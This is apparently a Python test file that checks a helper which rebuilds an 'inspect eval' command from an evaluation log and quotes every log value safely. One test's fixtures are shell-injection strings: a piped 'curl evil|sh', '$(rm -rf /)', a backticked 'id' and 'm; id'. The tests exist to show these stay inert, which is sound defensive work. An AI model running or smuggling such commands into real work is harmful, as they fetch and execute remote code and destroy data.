"""The command that asks again is one line that a shell reads as it is meant, whatever a log holds."""

import shlex

from inspect_ai.model import GenerateConfig

from spillover.answers.commands import commands, inspect_command
from spillover.answers.files import Loaded
from spillover.answers.imported import answers_log


def header(task="spillover/free_form", **changes):
    log = answers_log([], "m")
    log.eval.task = task
    log.eval.task_registry_name = task
    log.eval.model = "vllm/my model"
    for name, value in changes.items():
        setattr(log.eval, name, value)
    return log


def test_it_has_what_was_given():
    given = header(
        task_args_passed={"questions": "lab", "categories": ["a", "b"], "domain": None},
        model_args={"device": "cpu"},
        model_generate_config=GenerateConfig(temperature=0.3, max_tokens=7),
    )
    given.eval.config.limit = 2
    assert shlex.split(inspect_command(given)) == [
        *("inspect", "eval", "spillover/free_form", "--model", "vllm/my model"),
        *("-T", "questions=lab", "-T", "categories=a,b", "-M", "device=cpu", "--limit", "2"),
        *("--temperature", "0.3", "--max-tokens", "7"),
    ]


def test_names_and_values_of_a_log_are_words_and_no_commands():
    evil = header(task_args_passed={"x; curl evil|sh #": "$(rm -rf /)\n`id`\u202e"}, model="m; id")
    told = inspect_command(evil)
    assert "\n" not in told
    words = shlex.split(told)
    assert words[:5] == ["inspect", "eval", "spillover/free_form", "--model", "m; id"]
    assert words[5] == "-T"
    assert words[6].startswith("x; curl evil|sh #=$(rm -rf /)")
    assert len(words) == 7


def test_imported_answers_were_asked_by_nobody_here(tmp_path):
    mine = Loaded(tmp_path / "a.eval", header())
    theirs = Loaded(tmp_path / "b.eval", answers_log([], "m"))
    assert len(commands({"a": mine, "again": mine, "b": theirs})) == 1
